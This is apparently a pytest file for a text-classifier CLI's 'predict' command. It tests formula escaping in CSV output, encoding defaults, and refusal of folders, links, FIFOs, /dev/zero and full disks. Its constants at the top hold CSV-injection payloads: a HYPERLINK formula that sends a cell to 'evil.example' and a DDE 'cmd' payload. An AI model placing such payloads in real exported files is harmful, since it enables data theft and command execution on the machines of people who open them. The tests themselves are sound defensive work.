"""``predict --input`` on hostile files and outputs, run as a user runs it (``scripts/predict.py`` in process or as a
subprocess): spreadsheet formulas in the cells, a text without words, the checkpoint's own columns and encoding, an
output that is a folder, under a file, the input through a link, or on a full disk, and inputs that are not files."""

from __future__ import annotations

import csv
import json
import os
import resource
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from lightning_seq.cli.lightning_cli import fit_main
from lightning_seq.cli.predict import main as predict_main

from .conftest import CONFIGS, REPO_ROOT

# Labels and ids a spreadsheet would run as formulas (OWASP's examples).
LABELS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)"]
HOSTILE_IDS = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+cmd", "-1+2", "\tTAB", "\rCR", '=HYPERLINK("x")']
PLAIN_NUMBERS = ["-7", "+2.5"]  # ids a spreadsheet reads as the numbers they are: kept
WORDS = {
    LABELS[0]: "wheat grain tonnes export harvest crop maize barley",
    LABELS[1]: "shares bank profit dividend merger stock quarter earnings",
}


# Flags as the checkpoint was trained, for the tests that are not about predict's defaults.
AS_TRAINED = ("--text_column", "body", "--encoding", "latin-1", "--top_k", "2")


def write_rows(path: Path, rows: list[dict], encoding: str = "latin-1") -> Path:
    with path.open("w", encoding=encoding, newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def labelled(count: int) -> list[dict]:
    """Texts of two topics, with a latin-1 word in each, under the column ``body``."""
    return [
        {"id": f"w{i}", "body": f"café {WORDS[label]} {WORDS[label].split()[i % 8]}", "label": label}
        for i in range(count)
        for label in LABELS
    ]


@pytest.fixture(scope="module")
def checkpoint(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A tiny text-files run through the fit front door: column ``body``, latin-1, labels that look like formulas."""
    root = tmp_path_factory.mktemp("fit")
    train = write_rows(root / "train.csv", labelled(20))
    test = write_rows(root / "test.csv", labelled(4))
    fit_main(
        [
            "--config", str(CONFIGS / "gru.yaml"), "--data", "TextFilesDataModule",
            "--data.train_file", str(train), "--data.test_file", str(test),
            "--data.text_column", "body", "--data.encoding", "latin-1",
            "--data.batch_size", "8", "--model.hidden_size", "8", "--model.embedding_dim", "8",
            "--trainer.max_epochs", "1", "--trainer.limit_train_batches", "2", "--trainer.limit_val_batches", "2",
            "--trainer.enable_progress_bar", "false", "--trainer.default_root_dir", str(root),
        ]
    )  # fmt: skip
    return next((root / "lightning_logs" / "gru" / "version_0" / "checkpoints").glob("*.ckpt"))


def predict(capsys: pytest.CaptureFixture, *args: str) -> tuple[int, str, str]:
    """``scripts/predict.py`` in process: exit status, stdout, stderr."""
    try:
        predict_main(list(args))
        status = 0
    except SystemExit as exit_:
        status = int(exit_.code or 0)
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def on_file(
    capsys: pytest.CaptureFixture, checkpoint: Path, source: Path, output: Path, *extra: str
) -> tuple[int, str, str]:
    """``predict.py --ckpt C --input S --output O [extra]`` in process."""
    return predict(capsys, "--ckpt", str(checkpoint), "--input", str(source), "--output", str(output), *extra)


def assert_refused(status: int, err: str, *expected: str) -> str:
    """Exit status 2 and one line ``error: ...`` holding every ``expected`` part; the line is returned."""
    lines = err.strip().splitlines()
    assert status == 2, err
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    for part in expected:
        assert part in lines[0], lines[0]
    return lines[0]


def leftovers(folder: Path) -> list[str]:
    return sorted(name for name in os.listdir(folder) if name.endswith(".tmp"))


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.fixture()
def hostile_input(tmp_path: Path) -> Path:
    identifiers = [*HOSTILE_IDS, *PLAIN_NUMBERS, "plain"]
    rows = [{"id": identifier, "body": WORDS[LABELS[i % 2]]} for i, identifier in enumerate(identifiers)]
    return write_rows(tmp_path / "in.csv", rows)


def test_csv_cells_that_are_formulas_are_escaped_and_json_lines_stay_raw(
    checkpoint: Path, hostile_input: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    output = tmp_path / "out.csv"
    status, _, err = on_file(capsys, checkpoint, hostile_input, output, *AS_TRAINED)
    assert status == 0, err
    rows = read_csv(output)
    assert [row["id"] for row in rows] == ["'" + identifier for identifier in HOSTILE_IDS] + [*PLAIN_NUMBERS, "plain"]
    for row in rows:  # every label cell starts with = or @ raw: each is shown as text
        assert all(row[cell][:2] in ("'=", "'@") for cell in ("labels", "top_1", "top_2"))
        assert row["labels"][1:] in LABELS and float(row["p_1"]) > 0 and row["reason"] == ""

    jsonl = tmp_path / "out.jsonl"
    status, _, err = on_file(capsys, checkpoint, hostile_input, jsonl, *AS_TRAINED)
    assert status == 0, err
    records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [record["id"] for record in records] == [*HOSTILE_IDS, *PLAIN_NUMBERS, "plain"]
    assert all(record["labels"][0] in LABELS and record["reason"] is None for record in records)


def test_csv_formulas_keep_writes_cells_as_they_are(
    checkpoint: Path, hostile_input: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    output = tmp_path / "out.csv"
    status, _, err = on_file(capsys, checkpoint, hostile_input, output, "--csv_formulas", "keep")
    assert status == 0, err
    rows = read_csv(output)
    assert [row["id"] for row in rows] == [*HOSTILE_IDS, *PLAIN_NUMBERS, "plain"]
    assert all(row["labels"] in LABELS for row in rows)

    status, _, err = on_file(capsys, checkpoint, hostile_input, tmp_path / "o2.csv", "--csv_formulas", "maybe")
    assert_refused(status, err, "--csv_formulas maybe", "escape", "keep")
    assert not (tmp_path / "o2.csv").exists()


def test_the_checkpoints_column_and_encoding_are_the_defaults_and_flags_win(
    checkpoint: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    """Trained with --data.text_column body --data.encoding latin-1: a file like the training file needs no flags."""
    source = write_rows(tmp_path / "new.csv", [{"id": "a", "body": "café wheat grain"}, {"id": "b", "body": "bank"}])
    output = tmp_path / "out.jsonl"
    status, _, err = on_file(capsys, checkpoint, source, output)
    assert status == 0, err
    records = [json.loads(line) for line in output.read_text().splitlines()]
    assert [record["id"] for record in records] == ["a", "b"] and records[0]["words"] == 3
    assert records[0]["unknown_words"] == 0  # 'café' read as latin-1, a word of the vocabulary

    utf8 = tmp_path / "text.csv"  # explicit flags win over the checkpoint's
    utf8.write_text("id,text\nx,café wheat\n", encoding="utf-8")
    status, _, err = on_file(
        capsys, checkpoint, utf8, tmp_path / "flags.jsonl", "--text_column", "text", "--encoding", "utf-8"
    )
    assert status == 0, err
    assert json.loads((tmp_path / "flags.jsonl").read_text())["unknown_words"] == 0

    status, _, err = on_file(capsys, checkpoint, utf8, tmp_path / "columns.csv")
    line = assert_refused(status, err, "--text_column", "'body'")
    assert "--data." not in line  # predict's own flags, not the fit's
    assert not (tmp_path / "columns.csv").exists()

    status, _, err = on_file(capsys, checkpoint, source, tmp_path / "enc.csv", "--encoding", "no-such-codec")
    assert_refused(status, err, "--encoding", "no-such-codec")


def test_a_row_without_words_is_answered_with_a_reason_and_counted(
    checkpoint: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    source = write_rows(
        tmp_path / "in.csv",
        [{"id": "a", "body": "wheat grain"}, {"id": "b", "body": "!!! ???"}, {"id": "c", "body": "bank profit"}],
    )
    output = tmp_path / "out.csv"
    status, out, err = on_file(capsys, checkpoint, source, output, *AS_TRAINED)
    assert status == 0, err
    rows = read_csv(output)
    assert [row["id"] for row in rows] == ["a", "b", "c"]
    assert rows[1]["labels"] == rows[1]["top_1"] == "" and rows[1]["words"] == "0" and rows[1]["reason"] == "no words"
    assert rows[0]["labels"] and rows[2]["labels"] and rows[0]["reason"] == rows[2]["reason"] == ""
    assert "Wrote 3 predictions" in out and "1 row(s) without words" in out and "in.csv line 3" in out

    jsonl = tmp_path / "out.jsonl"
    status, _, err = on_file(capsys, checkpoint, source, jsonl, *AS_TRAINED)
    assert status == 0, err
    record = json.loads(jsonl.read_text().splitlines()[1])
    assert record == {
        "id": "b", "labels": [], "probabilities": [], "top_k": [], "words": 0, "unknown_words": 0,
        "truncated_tokens": 0, "reason": "no words",
    }  # fmt: skip


def test_an_output_that_is_a_folder_is_refused_before_the_model_is_loaded(
    hostile_input: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    folder = tmp_path / "predictions.csv"
    folder.mkdir()
    missing_checkpoint = tmp_path / "never-read.ckpt"  # the output is checked first: this file is never looked at
    status, _, err = on_file(capsys, missing_checkpoint, hostile_input, folder)
    assert_refused(status, err, f"--output {folder} is a folder")
    assert list(folder.iterdir()) == [] and leftovers(tmp_path) == []


def test_an_output_under_a_regular_file_is_refused(
    checkpoint: Path, hostile_input: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    blocker = tmp_path / "file.txt"
    blocker.write_text("keep me\n")
    for output in (blocker / "out.csv", blocker / "deeper" / "out.jsonl"):
        status, _, err = on_file(capsys, checkpoint, hostile_input, output, *AS_TRAINED)
        assert_refused(status, err, f"--output {output}", f"{blocker} is a file, not a folder")
    assert blocker.read_text() == "keep me\n" and leftovers(tmp_path) == []


def test_an_output_that_is_the_input_or_the_checkpoint_through_a_link_is_refused(
    checkpoint: Path, hostile_input: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    before = hostile_input.read_bytes()
    symbolic = tmp_path / "sym.csv"
    symbolic.symlink_to(hostile_input)
    hard = tmp_path / "hard.csv"
    os.link(hostile_input, hard)
    for output in (symbolic, hard):
        status, _, err = on_file(capsys, checkpoint, hostile_input, output, *AS_TRAINED)
        assert_refused(status, err, f"--output {output} is the input")
    linked_checkpoint = tmp_path / "ckpt.jsonl"
    os.link(checkpoint, linked_checkpoint)
    status, _, err = on_file(capsys, checkpoint, hostile_input, linked_checkpoint)
    assert_refused(status, err, "is the checkpoint")
    assert hostile_input.read_bytes() == before and symbolic.is_symlink() and os.path.samefile(hard, hostile_input)
    assert os.path.samefile(linked_checkpoint, checkpoint) and leftovers(tmp_path) == []


def test_inputs_that_are_not_regular_files_are_refused_without_reading(
    checkpoint: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    folder = tmp_path / "texts.csv"
    folder.mkdir()
    for source, expected in ((folder, "is a folder"), (Path("/dev/zero"), "is not a regular file")):
        output = tmp_path / "out.csv"
        status, _, err = on_file(capsys, checkpoint, source, output)
        assert_refused(status, err, f"--input {source}", expected)
        assert not output.exists()
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    script = [sys.executable, str(REPO_ROOT / "scripts" / "predict.py"), "--ckpt", str(checkpoint)]
    result = subprocess.run(
        [*script, "--input", str(fifo), "--output", str(tmp_path / "out.csv")],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip  # a FIFO without a writer would block a reader forever
    assert_refused(result.returncode, result.stderr, f"--input {fifo}", "is not a regular file")
    assert not (tmp_path / "out.csv").exists()


def _limit_file_size() -> None:
    """A full disk, simulated: files may not grow past 4 KB, and going past fails with EFBIG (no signal)."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))


def test_a_full_disk_while_writing_is_one_line_and_leaves_nothing(checkpoint: Path, tmp_path: Path) -> None:
    source = write_rows(tmp_path / "in.csv", [{"id": f"row-{i}", "body": WORDS[LABELS[i % 2]]} for i in range(300)])
    output = tmp_path / "out" / "predictions.csv"  # its folder is made for it, and removed again
    script = [sys.executable, str(REPO_ROOT / "scripts" / "predict.py"), "--ckpt", str(checkpoint)]
    result = subprocess.run(
        [*script, "--input", str(source), "--output", str(output), *AS_TRAINED],
        capture_output=True, text=True, timeout=120, preexec_fn=_limit_file_size,
    )  # fmt: skip
    assert_refused(result.returncode, result.stderr.splitlines()[-1] + "\n", f"cannot write {output}", "size")
    assert "Traceback" not in result.stderr
    assert not output.parent.exists() and leftovers(tmp_path) == []


def test_top_k_defaults_to_every_label_of_a_model_with_fewer_than_three(
    checkpoint: Path, capsys: pytest.CaptureFixture
) -> None:
    status, out, err = predict(capsys, "--ckpt", str(checkpoint), "--text", "wheat grain tonnes", "--json")
    assert status == 0, err
    assert [topic["topic"] for topic in json.loads(out)["topics"]] in (LABELS, LABELS[::-1])
    status, _, err = predict(capsys, "--ckpt", str(checkpoint), "--text", "wheat", "--top_k", "3")
    assert_refused(status, err, "top_k must be in [1, 2], got 3")  # asked for explicitly: still refused


def test_a_file_that_never_ends_blocks_or_is_huge_is_refused_before_it_is_read(
    checkpoint: Path, tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--file /dev/zero`` read 9.7 GB in 18 s; a FIFO would block; a huge file belongs to --input/--output."""
    from lightning_seq.cli import predict

    fifo = tmp_path / "fifo.txt"
    os.mkfifo(fifo)
    device = "is not a regular file (a device, FIFO or socket)"
    for path, message in (("/dev/zero", device), (fifo, device), (tmp_path, "is a folder")):
        with pytest.raises(SystemExit) as stopped:
            predict_main(["--ckpt", str(checkpoint), "--file", str(path)])
        assert stopped.value.code == 2
        assert capsys.readouterr().err.strip() == f"error: --file {path} {message}; give a text file, one text per line"
    big = tmp_path / "big.txt"
    big.write_text("wheat corn\n" * 20)
    monkeypatch.setattr(predict, "MAX_TEXT_BYTES", 100)
    with pytest.raises(SystemExit):
        predict_main(["--ckpt", str(checkpoint), "--file", str(big)])
    assert "use --input FILE --output FILE.jsonl" in capsys.readouterr().err


def test_a_refusal_quotes_words_and_counts_texts_within_bounds(checkpoint: Path, capsys: pytest.CaptureFixture) -> None:
    """A text of one 1 MB unknown word came back whole in the message (30 MB for a 30 MB line)."""
    texts = ["q" * 1_000_000] + [f"zzqx{number}" for number in range(30)]
    with pytest.raises(SystemExit):
        predict_main(["--ckpt", str(checkpoint), *(arg for text in texts for arg in ("--text", text))])
    err = capsys.readouterr().err
    assert len(err) < 3000 and "and 21 more" in err, err[:500]
